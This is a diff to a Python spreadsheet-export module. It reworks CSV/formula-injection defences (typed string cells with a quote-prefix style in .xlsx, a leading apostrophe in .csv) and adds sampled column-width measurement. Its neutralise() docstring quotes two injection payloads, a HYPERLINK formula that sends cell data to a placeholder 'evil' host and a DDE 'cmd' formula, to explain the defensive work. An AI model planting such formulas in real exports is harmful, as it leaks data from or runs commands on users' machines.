@@ -10,8 +10,23 @@ values; what a cell becomes in the file is decided here, once, from the value an
 * identifiers (mobile, phone, postcode, ID and card numbers) are always text, so Excel never
   turns 13812345678 into 1.38E+10 or rounds a 19-digit card number;
 * a Python ``bool`` is the word for yes or no (是 / 否 unless told otherwise);
-* any text that Excel would take for a formula is neutralised (:func:`neutralise`);
+* text is never a formula. In .xlsx every text cell is a typed string cell (``t="inlineStr"``,
+  xlsxwriter's ``strings_to_formulas`` off), which no spreadsheet evaluates, so text is written
+  exactly as the screen shows it — +86 571 8888 0000 stays +86 571 8888 0000, and the portal's
+  own export imports back unchanged; text that begins like a formula (= + - @, or a tab or
+  carriage return that could hide one) gets a cell style with Excel's *quote prefix*, so a user
+  editing the cell keeps text too (and Excel shows it as text). A leading tab or carriage
+  return is kept as well: in a string cell it hides nothing that could run, and taking it off
+  would change the value as surely as adding an apostrophe. A .csv has no cell types: there
+  such text is neutralised with a leading apostrophe (:func:`neutralise`, OWASP's advice);
 * ``None`` is an empty cell.
+
+Column widths suit the content: each column is as wide as the widest value of the first
+``WIDTH_SAMPLE_ROWS`` rows (in display width, a Chinese character counting double; one line of a
+multi-line cell), at least as wide as its header and at most ``MAX_CONTENT_WIDTH``; a column
+with no text in those rows keeps its type's width. Only that bounded sample is measured — the
+rest of the rows take the writer's short path untouched — and the widths are set when the
+sheet is complete (xlsxwriter writes the ``<cols>`` element on close, constant_memory or not).
 
 No Flask here: labels, masking and row scope are the caller's business; this module only writes.
 Rows are consumed one at a time and never held: with xlsxwriter's ``constant_memory`` the
@@ -22,6 +37,7 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import itertools
 import math
 import tempfile
 import unicodedata
@@ -63,6 +79,10 @@ DEFAULT_WIDTHS: dict[FieldType, int] = {
 _FILTER_BUTTON = 3          # characters the autofilter's drop-down takes from the header cell
 _MAX_HEADER_WIDTH = 60      # a very long label does not make a column wider than this
 _MAX_WIDTH = 255            # Excel's limit
+WIDTH_SAMPLE_ROWS = 500     # the first rows of a table whose text sets its column widths
+MAX_CONTENT_WIDTH = 60      # a column is not made wider than this by its values
+_CELL_PADDING = 2           # room either side of the widest value
+_MEASURED_CHARS = 2_000     # of a multi-line value, the lines within its first characters count
 
 _BLANK, _TEXT, _NUMBER, _DATE, _DATETIME = range(5)
 
@@ -80,17 +100,18 @@ class ExportColumn:
 
 
 def neutralise(text: str) -> str:
-    """``text`` made safe from formula (CSV) injection.
+    """``text`` made safe from formula (CSV) injection, for a .csv.
 
-    Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or
-    ``@`` as a formula — in a CSV as soon as it is opened, in an xlsx as soon as a user edits
-    the cell — so a customer named ``=HYPERLINK("http://evil/?"&A1)`` or
-    ``=cmd|' /C calc'!A0`` would leak data or run a command on the clerk's machine. A leading
-    tab or carriage return can hide such a formula behind white space. OWASP's advice for
-    "CSV injection" is to prefix those cells with a single quote, which the spreadsheet shows
-    as text; we do that for every text cell of both formats (numbers and dates are written as
-    such and cannot be formulas). A phone written as "+86 138…" or a note starting with "-"
-    gets the quote too: a visible apostrophe is the price of never running a formula.
+    Excel, LibreOffice and Google Sheets run a CSV cell that begins with ``=``, ``+``, ``-`` or
+    ``@`` as a formula as soon as the file is opened — a CSV has no cell types — so a customer
+    named ``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` would leak data or run
+    a command on the clerk's machine. A leading tab or carriage return can hide such a formula
+    behind white space. OWASP's advice for "CSV injection" is to prefix those cells with a
+    single quote, which the spreadsheet shows as text; we do that for every text cell of a csv
+    (numbers and dates are written as such and cannot be formulas). A phone written as
+    "+86 138…" gets the quote too: in a csv a visible apostrophe is the price of never running
+    a formula. An .xlsx needs none of it (its text cells are typed strings, see the module's
+    docstring) and keeps the value as it is.
     """
     if text.startswith(_FORMULA_TRIGGERS):
         return "'" + text
@@ -114,12 +135,34 @@ def display_width(text: str) -> int:
     return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)
 
 
-def column_width(column: ExportColumn) -> int:
-    """The width of ``column`` in characters: its own, or its type's, widened to fit the label."""
+def column_width(column: ExportColumn, content: int = 0) -> int:
+    """The width of ``column`` in characters: its own when it says; else, when ``content`` (the
+    display width of its widest value, 0 = unknown) is given, that plus a little room, at most
+    ``MAX_CONTENT_WIDTH``; else its type's. Either way at least as wide as the label (with the
+    filter's drop-down button, at most ``_MAX_HEADER_WIDTH``)."""
     if column.width is not None:
         return max(1, min(column.width, _MAX_WIDTH))
     header = min(display_width(column.label) + _FILTER_BUTTON, _MAX_HEADER_WIDTH)
+    if content > 0:
+        return max(header, min(content + _CELL_PADDING, MAX_CONTENT_WIDTH))
     return max(DEFAULT_WIDTHS.get(column.type, 16), header)
+
+
+def _measure(row: Sequence, widths: list[int]) -> None:
+    """Widens ``widths`` to the text values of ``row`` (display width of the longest line)."""
+    cap = MAX_CONTENT_WIDTH
+    for index, value in enumerate(row):
+        if value.__class__ is not str:
+            continue
+        known = widths[index]
+        if known >= cap or len(value) * 2 <= known:   # cannot make the column wider
+            continue
+        if "\n" in value:
+            width = max(display_width(line[:cap]) for line in value[:_MEASURED_CHARS].split("\n"))
+        else:
+            width = display_width(value[:cap])   # cap characters are at least cap columns wide
+        if width > known:
+            widths[index] = width
 
 
 def write_table(stream, *, fmt: str, sheet_name: str, columns: list[ExportColumn], rows: Iterable[Sequence],
@@ -133,8 +176,10 @@ def write_table(stream, *, fmt: str, sheet_name: str, columns: list[ExportColumn
 
     xlsx: one sheet named ``sheet_name`` (made valid, see :func:`sanitise_sheet_name`) with a
     bold, filled, bordered header row that stays frozen, an autofilter over the written range
-    and column widths from :func:`column_width`. A sheet holds at most ``MAX_ROWS`` rows
-    (1,048,576 with the header): when more rows come, they continue on a new sheet named
+    and column widths from :func:`column_width` and the first ``WIDTH_SAMPLE_ROWS`` rows' text.
+    Text is written exactly as given (formula-like text with the quote-prefix style). A sheet
+    holds at most ``MAX_ROWS`` rows (1,048,576 with the header): when more rows come, they
+    continue on a new sheet named
     "<name> (2)", "<name> (3)" … each with the header again. Text longer than Excel's 32,767
     characters per cell is cut there.
 
@@ -178,14 +223,15 @@ def _plain(value: Any) -> str:
 def _classify(value: Any, type_: FieldType, yes_no: tuple[str, str]) -> tuple[int, Any]:
     """The kind of cell ``value`` makes in a column of ``type_``, and what goes in it.
 
-    Text comes back already neutralised; both writers share this so xlsx and csv agree.
+    Text comes back as it is (the csv writer neutralises it, the xlsx writer gives it the
+    quote-prefix style); both writers share this so xlsx and csv agree.
     """
     if value is None:
         return _BLANK, None
     if isinstance(value, bool) or (type_ is FieldType.BOOL and isinstance(value, int) and value in (0, 1)):
-        return _TEXT, neutralise(yes_no[0] if value else yes_no[1])
+        return _TEXT, yes_no[0] if value else yes_no[1]
     if type_ in IDENTIFIER_TYPES:
-        return _TEXT, neutralise(_plain(value))
+        return _TEXT, _plain(value)
     if isinstance(value, (int, float, Decimal)):
         if isinstance(value, Decimal):
             finite = value.is_finite()
@@ -194,7 +240,7 @@ def _classify(value: Any, type_: FieldType, yes_no: tuple[str, str]) -> tuple[in
         else:
             finite = abs(value) < MAX_EXACT_INTEGER
         if not finite:       # NaN, infinity, or an integer Excel would round: keep it exact as text
-            return _TEXT, neutralise(_plain(value))
+            return _TEXT, _plain(value)
         return _NUMBER, value
     if isinstance(value, dt.datetime):
         return (_DATE, value.date()) if type_ is FieldType.DATE else (_DATETIME, value)
@@ -202,7 +248,7 @@ def _classify(value: Any, type_: FieldType, yes_no: tuple[str, str]) -> tuple[in
         if type_ is FieldType.DATETIME:
             return _DATETIME, dt.datetime.combine(value, dt.time())
         return _DATE, value
-    return _TEXT, neutralise(str(value))
+    return _TEXT, str(value)
 
 
 def _iso(value: dt.date) -> str:
@@ -294,20 +340,37 @@ class XlsxBook:
         self._names.add(name.lower())
         sheet = self.workbook.add_worksheet(name)
         formats = self._formats
+        # The columns' formats must be set before the first row is written (constant_memory gives
+        # a cell without a format of its own its column's as the row goes out); the widths are set
+        # again from the values when the sheet is complete (_close_sheet).
         for index, column in enumerate(columns):
             sheet.set_column(index, index, column_width(column), formats.column(column.type))
         for index, column in enumerate(columns):
-            sheet.write_string(0, index, neutralise(column.label)[:MAX_CELL_CHARS], formats.header)
+            label = column.label[:MAX_CELL_CHARS]
+            sheet.write_string(0, index, label, formats.quoted_header if label.startswith(_FORMULA_TRIGGERS)
+                               else formats.header)
         sheet.freeze_panes(1, 0)
         return sheet
+
+    def _close_sheet(self, sheet, columns: list[ExportColumn], rows: int, widths: list[int]) -> None:
+        """The sheet's rows are all written: its autofilter, and its widths from the values measured."""
+        sheet.autofilter(0, 0, rows, len(columns) - 1)
+        formats = self._formats
+        for index, column in enumerate(columns):
+            sheet.set_column(index, index, column_width(column, widths[index]), formats.column(column.type))
 
 
 class _Formats:
     """The workbook's cell formats, made once and shared by its sheets."""
 
     def __init__(self, workbook):
-        self.header = workbook.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1, "valign": "vcenter"})
+        header = {"bold": True, "bg_color": "#DDEBF7", "border": 1, "valign": "vcenter"}
+        self.header = workbook.add_format(header)
         self.text = workbook.add_format({"num_format": TEXT_FORMAT})
+        # Text that begins like a formula: Excel's quote prefix (shown and kept as text when edited).
+        self.quoted_header = workbook.add_format({**header, "quote_prefix": True})
+        self.quoted = workbook.add_format({"quote_prefix": True})
+        self.quoted_text = workbook.add_format({"num_format": TEXT_FORMAT, "quote_prefix": True})
         self.date = workbook.add_format({"num_format": DATE_FORMAT})
         self.datetime = workbook.add_format({"num_format": DATETIME_FORMAT})
         self.numbers = {
@@ -328,29 +391,35 @@ class _Formats:
 
 
 def _fill(book: XlsxBook, base_name: str, columns: list[ExportColumn], rows: Iterable[Sequence]) -> int:
-    last_column = len(columns) - 1
     rows_per_sheet = MAX_ROWS - 1
     count = len(columns)
     sheet_number = 1
     sheet = book._open_sheet(base_name, columns)
     writers = _cell_writers(sheet, columns, book._formats, book.yes_no)
+    widths = [0] * count   # display width of the widest text of each column in the sample
     on_sheet = 0
     written = 0
-    for row in rows:
-        if len(row) != count:
-            _check_length(row, count, written + 1)
-        if on_sheet == rows_per_sheet:
-            sheet.autofilter(0, 0, on_sheet, last_column)
-            sheet_number += 1
-            sheet = book._open_sheet(book._unique(_numbered(base_name, sheet_number)), columns)
-            writers = _cell_writers(sheet, columns, book._formats, book.yes_no)
-            on_sheet = 0
-        on_sheet += 1
-        written += 1
-        for write, value in zip(writers, row):
-            if value is not None:
-                write(on_sheet, value)
-    sheet.autofilter(0, 0, on_sheet, last_column)
+    rows = iter(rows)
+    # The first rows are measured for the column widths, the rest only written: the sample is
+    # bounded, so a million-row export spends on widths what a 500-row one does.
+    for measuring, source in ((True, itertools.islice(rows, WIDTH_SAMPLE_ROWS)), (False, rows)):
+        for row in source:
+            if len(row) != count:
+                _check_length(row, count, written + 1)
+            if on_sheet == rows_per_sheet:
+                book._close_sheet(sheet, columns, on_sheet, widths)
+                sheet_number += 1
+                sheet = book._open_sheet(book._unique(_numbered(base_name, sheet_number)), columns)
+                writers = _cell_writers(sheet, columns, book._formats, book.yes_no)
+                on_sheet = 0
+            on_sheet += 1
+            written += 1
+            for write, value in zip(writers, row):
+                if value is not None:
+                    write(on_sheet, value)
+            if measuring:
+                _measure(row, widths)
+    book._close_sheet(sheet, columns, on_sheet, widths)
     return written
 
 
@@ -369,6 +438,8 @@ def _cell_writers(sheet, columns: list[ExportColumn], formats: _Formats, yes_no:
 def _writer(sheet, col: int, type_: FieldType, formats: _Formats, yes_no: tuple[str, str]):
     write_string, write_number = sheet.write_string, sheet.write_number
     text_format = formats.text if type_ in IDENTIFIER_TYPES else None
+    # Text beginning like a formula is written as it is, as a string cell with the quote prefix.
+    quoted_format = formats.quoted_text if type_ in IDENTIFIER_TYPES else formats.quoted
     value_format = formats.numbers.get(type_)
     date_format, datetime_format = formats.date, formats.datetime
     triggers = _FORMULA_TRIGGERS
@@ -376,7 +447,7 @@ def _writer(sheet, col: int, type_: FieldType, formats: _Formats, yes_no: tuple[
     def general(row: int, value) -> None:
         kind, out = _classify(value, type_, yes_no)
         if kind == _TEXT:
-            write_string(row, col, out[:MAX_CELL_CHARS], text_format)
+            write_string(row, col, out[:MAX_CELL_CHARS], quoted_format if out.startswith(triggers) else text_format)
         elif kind == _NUMBER:
             write_number(row, col, float(out), value_format)
         elif kind != _BLANK:
@@ -410,19 +481,20 @@ def _writer(sheet, col: int, type_: FieldType, formats: _Formats, yes_no: tuple[
                                     datetime_format)
             general(row, value)
     elif type_ is FieldType.BOOL:
-        yes, no = neutralise(yes_no[0]), neutralise(yes_no[1])
+        yes, no = yes_no
+        yes_format, no_format = (quoted_format if word.startswith(triggers) else None for word in yes_no)
 
         def write(row: int, value) -> None:
             if value is True:
-                return write_string(row, col, yes)
+                return write_string(row, col, yes, yes_format)
             if value is False:
-                return write_string(row, col, no)
+                return write_string(row, col, no, no_format)
             general(row, value)
     else:   # text of any kind, identifiers included (their cells carry the text format)
         def write(row: int, value) -> None:
             if value.__class__ is str:
                 if value.startswith(triggers):
-                    value = "'" + value
+                    return write_string(row, col, value[:MAX_CELL_CHARS], quoted_format)
                 return write_string(row, col, value[:MAX_CELL_CHARS], text_format)
             general(row, value)
     return write
@@ -485,7 +557,7 @@ class _Utf8Sink:
 
 def _csv_text(kind: int, value: Any) -> str:
     if kind == _TEXT:
-        return value
+        return neutralise(value)
     if kind == _NUMBER:
         return _plain(value) if isinstance(value, Decimal) else str(value)
     if kind == _BLANK:
